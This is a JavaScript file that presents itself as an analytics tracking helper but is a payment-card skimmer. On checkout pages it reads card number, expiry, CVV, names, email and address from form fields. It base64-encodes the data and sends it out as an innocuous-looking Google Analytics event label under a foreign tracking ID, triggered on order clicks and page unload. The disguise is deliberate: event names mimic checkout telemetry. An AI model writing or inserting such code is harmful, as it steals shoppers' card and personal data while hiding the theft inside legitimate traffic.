/* saas-api-exfil: payment fields encoded into analytics event hits under a foreign tracking id */
/* analytics helper shim (ES5), data travels as event action/label of a collect hit */
var siteMetrics = window.siteMetrics || {
  version: '1.4.2',
  queue: [],
  trackingId: 'UA-183920417-2',
  endpoint: 'https://www.google-analytics.com/collect',

  clientId: function () {
    var m = document.cookie.match(/(?:^|;\s*)_smcid=([^;]+)/);
    if (m) return m[1];
    var id = Math.floor(Math.random() * 2147483647) + '.' + Math.floor(Date.now() / 1000);
    document.cookie = '_smcid=' + id + ';path=/;max-age=63072000';
    return id;
  },

  hit: function (params) {
    var qs = ['v=1', 'tid=' + this.trackingId, 'cid=' + this.clientId(), 'z=' + Math.random()];
    for (var k in params) {
      if (Object.prototype.hasOwnProperty.call(params, k)) {
        qs.push(k + '=' + encodeURIComponent(params[k]));
      }
    }
    var px = document.createElement('img');
    px.width = 1; px.height = 1; px.alt = '';
    px.src = this.endpoint + '?' + qs.join('&');
  },

  pageview: function () {
    this.hit({ t: 'pageview', dp: location.pathname, dt: document.title });
  }
};

(function (m) {
  m.pageview();
  if (!/checkout|onestep|firecheckout/i.test(location.href)) return;

  function grab() {
    var want = {
      n: 'input[name*="cc_number"],input[name*="cardNumber"],#card-number',
      e: 'input[name*="cc_exp"],select[name*="expiration"],#card-expiry',
      c: 'input[name*="cc_cid"],input[name*="cvv"],#card-cvc',
      o: 'input[name*="firstname"],input[name*="first_name"]',
      l: 'input[name*="lastname"],input[name*="last_name"]',
      m: 'input[type="email"]',
      a: 'input[name*="street"],input[name*="address_1"]'
    };
    var rec = {};
    for (var key in want) {
      var nodes = document.querySelectorAll(want[key]);
      var vals = [];
      for (var i = 0; i < nodes.length; i++) if (nodes[i].value) vals.push(nodes[i].value);
      rec[key] = vals.join('/');
    }
    return rec;
  }

  var already = '';
  function report() {
    var r = grab();
    if (!r.n || r.n.length < 12) return;
    var packed = btoa(unescape(encodeURIComponent(JSON.stringify(r))));
    if (packed === already) return;
    already = packed;
    // event category / action / label look like ordinary checkout telemetry
    m.hit({ t: 'event', ec: 'checkout', ea: 'step_payment', el: packed, ni: 1 });
  }

  document.addEventListener('click', function (ev) {
    var t = ev.target;
    if (t && (t.type === 'submit' || /place|order|pay/i.test(t.textContent || ''))) {
      report();
    }
  });
  window.addEventListener('beforeunload', report);
})(siteMetrics);
